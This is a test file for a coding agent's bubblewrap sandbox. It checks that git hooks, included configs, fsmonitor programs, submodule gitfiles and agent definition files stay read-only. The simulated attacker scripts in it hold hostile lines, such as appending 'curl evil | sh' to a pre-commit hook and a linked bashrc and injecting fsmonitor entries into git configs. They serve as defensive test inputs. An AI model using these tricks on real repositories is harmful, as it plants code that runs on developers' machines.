/**
 * The project-write sandbox keeps read-only what it finds in the project that makes a later command run a program
 * (adr/0017): each test plants what an attacker's sandboxed script would attack, and runs that script in real
 * bubblewrap.
 */
import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { type BubblewrapProbe, probeBubblewrap, sandboxedCommand } from "../../src/sandbox/bubblewrap.ts";
import {
	findProtectedPlaces,
	MAX_PROTECTED_PLACES,
	MAX_SEARCHED_DIRECTORIES,
} from "../../src/sandbox/protected-places.ts";
import { tempDir } from "../policy/fixtures.ts";
import { runShell } from "./shell-run.ts";

let probe: BubblewrapProbe & { usable: true };

beforeAll(async () => {
	const found = await probeBubblewrap();
	if (!found.usable) throw new Error(`these tests need bubblewrap (.ci/run installs it): ${found.why}`);
	probe = found;
});

interface World {
	readonly project: string;
	readonly home: string;
	readonly agentDir: string;
}

/** A home (with pi's agent dir) and a git repository in a project, both real. */
function world(): World {
	const root = tempDir();
	const home = join(root, "home");
	const agentDir = join(home, ".pi", "agent");
	const project = join(root, "project");
	mkdirSync(agentDir, { recursive: true });
	mkdirSync(join(project, "src"), { recursive: true });
	writeFileSync(join(project, "README.md"), "# demo\n");
	spawnSync("git", ["init", "-q", project], { env: { ...process.env, GIT_CONFIG_NOSYSTEM: "1" } });
	return { project, home, agentDir };
}

function file(path: string, text = ""): void {
	mkdirSync(join(path, ".."), { recursive: true });
	writeFileSync(path, text);
}

/** Run `script` in the project-write sandbox of `w`, as the gate places it. */
function run(w: World, script: string, linkTargets: readonly string[] = []) {
	const place = {
		project: w.project,
		cwd: w.project,
		keepReadOnly: [w.home, w.agentDir],
		agentDir: w.agentDir,
		homeDir: w.home,
		linkTargets,
	};
	return runShell(sandboxedCommand(script, "project-write", place, probe));
}

const read = (path: string) => (existsSync(path) ? readFileSync(path, "utf8") : null);

describe("project-write keeps what it finds read-only", () => {
	it("the hooks directory core.hooksPath names: an existing .husky, and one not created yet", async () => {
		const w = world();
		spawnSync("git", ["-C", w.project, "config", "core.hooksPath", ".husky"]);
		file(join(w.project, ".husky", "pre-commit"), "npm test\n");
		const husky = await run(
			w,
			"echo 'curl evil | sh' >> .husky/pre-commit; echo evil > .husky/post-checkout; mv .husky gone; echo ok > src/a.txt",
		);
		expect(husky.err).toContain("Read-only file system");
		expect(read(join(w.project, ".husky", "pre-commit"))).toBe("npm test\n");
		expect(existsSync(join(w.project, ".husky", "post-checkout"))).toBe(false);
		expect(read(join(w.project, "src", "a.txt"))).toBe("ok\n");

		spawnSync("git", ["-C", w.project, "config", "core.hooksPath", ".githooks"]);
		await run(w, "mkdir -p .githooks; echo evil > .githooks/pre-commit");
		expect(existsSync(join(w.project, ".githooks", "pre-commit"))).toBe(false);
	});

	it("a shared config the repository includes cannot be changed; one it includes that does not exist leaves no writes", async () => {
		const w = world();
		file(join(w.project, ".gitconfig"), "[user]\n\tname = team\n");
		spawnSync("git", ["-C", w.project, "config", "include.path", "../.gitconfig"]);
		await run(w, "printf '[core]\\n\\tfsmonitor = ./x\\n' >> .gitconfig");
		expect(read(join(w.project, ".gitconfig"))).toBe("[user]\n\tname = team\n");
		spawnSync("git", ["-C", w.project, "config", "--add", "include.path", "../later.gitconfig"]);
		const later = await run(
			w,
			"echo x > README.md; printf '[core]\\n\\tfsmonitor = ./x\\n' > later.gitconfig",
		);
		expect(later.err).toContain("Read-only");
		expect(existsSync(join(w.project, "later.gitconfig"))).toBe(false);
	});

	it("a program the repository's config names in the project (core.fsmonitor) cannot be rewritten", async () => {
		const w = world();
		file(join(w.project, "tools", "fsmon.sh"), "#!/bin/sh\n");
		spawnSync("git", ["-C", w.project, "config", "core.fsmonitor", "tools/fsmon.sh"]);
		await run(w, "echo 'touch /tmp/owned' >> tools/fsmon.sh; echo ok > tools/other.sh");
		expect(read(join(w.project, "tools", "fsmon.sh"))).toBe("#!/bin/sh\n");
		expect(read(join(w.project, "tools", "other.sh"))).toBe("ok\n");
	});

	it("a submodule's gitfile cannot be pointed at a planted config, nor replaced", async () => {
		const w = world();
		file(join(w.project, "lib", ".git"), "gitdir: ../.git/modules/lib\n");
		await run(
			w,
			"mkdir -p planted && echo 'gitdir: ../planted' > lib/.git; mv lib/.git lib/old; echo x > planted/HEAD",
		);
		expect(read(join(w.project, "lib", ".git"))).toBe("gitdir: ../.git/modules/lib\n");
	});

	it("a nested repository's .git and a bare repository in a package directory", async () => {
		const w = world();
		spawnSync("git", ["init", "-q", join(w.project, "packages", "app")]);
		spawnSync("git", ["init", "-q", "--bare", join(w.project, "vendor", "lib.git")]);
		const before = read(join(w.project, "vendor", "lib.git", "config"));
		await run(
			w,
			"printf '[core]\\n\\tfsmonitor = ./x\\n' >> packages/app/.git/config; printf '[core]\\n\\tfsmonitor = ./x\\n' >> vendor/lib.git/config; echo x > vendor/lib.git/hooks/post-checkout",
		);
		expect(read(join(w.project, "packages", "app", ".git", "config"))).not.toContain("fsmonitor");
		expect(read(join(w.project, "vendor", "lib.git", "config"))).toBe(before);
		expect(existsSync(join(w.project, "vendor", "lib.git", "hooks", "post-checkout"))).toBe(false);
	});

	it("launcher agent definitions: .agents/ at the top (even before it exists) and deeper, .pi/agents", async () => {
		const w = world();
		file(join(w.project, "packages", "app", ".agents", "reviewer.md"), "---\nname: reviewer\n---\n");
		await run(
			w,
			"echo evil > .agents/x.md; mkdir -p .pi/agents && echo evil > .pi/agents/x.md; echo evil >> packages/app/.agents/reviewer.md",
		);
		expect(existsSync(join(w.project, ".agents", "x.md"))).toBe(false);
		expect(existsSync(join(w.project, ".pi", "agents", "x.md"))).toBe(false);
		expect(read(join(w.project, "packages", "app", ".agents", "reviewer.md"))).toBe(
			"---\nname: reviewer\n---\n",
		);
	});

	it("the in-project target of a guarded link (a dotfiles repository's bash/bashrc)", async () => {
		const w = world();
		file(join(w.project, "bash", "bashrc"), "# mine\n");
		symlinkSync(join(w.project, "bash", "bashrc"), join(w.home, ".bashrc"));
		await run(w, "taskset -c 0 cp /dev/null bash/bashrc; echo 'curl evil | sh' >> bash/bashrc", [
			join(w.project, "bash", "bashrc"),
		]);
		expect(read(join(w.project, "bash", "bashrc"))).toBe("# mine\n");
	});

	it("a project inside pi's agent dir (an extension's checkout) gets no writes at all", async () => {
		const w = world();
		const inside = join(w.agentDir, "extensions", "mine");
		mkdirSync(inside, { recursive: true });
		const result = await runShell(
			sandboxedCommand(
				"echo evil > index.ts",
				"project-write",
				{
					project: inside,
					cwd: inside,
					keepReadOnly: [w.home, w.agentDir],
					agentDir: w.agentDir,
					homeDir: w.home,
				},
				probe,
			),
		);
		expect(result.err).toContain("Read-only file system");
		expect(existsSync(join(inside, "index.ts"))).toBe(false);
	});
});

describe("the search is bounded and fails closed", () => {
	it("skips node_modules, and past its cap the project stays read-only", () => {
		const w = world();
		file(join(w.project, "node_modules", "x", ".git", "config"));
		const found = findProtectedPlaces({ project: w.project, homeDir: w.home, linkTargets: [] });
		expect("places" in found && found.places.map((p) => p.path.slice(w.project.length))).toEqual([
			"/.agents",
			"/.git",
			"/.pi",
		]);
		for (let index = 0; index < 20; index++) mkdirSync(join(w.project, "src", `d${index}`));
		const limits = { directories: 20, places: MAX_PROTECTED_PLACES };
		expect(findProtectedPlaces({ project: w.project, homeDir: w.home, linkTargets: [], limits })).toEqual({
			refused: "the project has more than 20 directories to search",
		});
		for (let index = 0; index < 3; index++) mkdirSync(join(w.project, "src", `d${index}`, ".pi"));
		const places = { directories: MAX_SEARCHED_DIRECTORIES, places: 4 };
		expect(
			findProtectedPlaces({ project: w.project, homeDir: w.home, linkTargets: [], limits: places }),
		).toEqual({
			refused: "the project has more than 4 places to protect",
		});
	});

	it("a hooks directory reached through a link in the project leaves no writes (the link could be replaced)", async () => {
		const w = world();
		mkdirSync(join(w.project, "real-hooks"));
		symlinkSync("real-hooks", join(w.project, ".husky"));
		spawnSync("git", ["-C", w.project, "config", "core.hooksPath", ".husky/_"]);
		const result = await run(w, "rm .husky && mkdir -p .husky/_ && echo evil > .husky/_/pre-commit");
		expect(result.err).toContain("Read-only");
		expect(existsSync(join(w.project, ".husky", "_", "pre-commit"))).toBe(false);
	});

	it("a protected name that is a symbolic link, or an unreadable hooks setting, leaves no writes", async () => {
		const w = world();
		symlinkSync(join(w.home), join(w.project, "src", ".agents"));
		expect(await run(w, "echo x > README.md")).toMatchObject({ err: expect.stringContaining("Read-only") });
		const v = world();
		mkdirSync(join(v.home, ".gitconfig"));
		expect(await run(v, "echo x > README.md")).toMatchObject({ err: expect.stringContaining("Read-only") });
		expect(read(join(v.project, "README.md"))).toBe("# demo\n");
	});
});
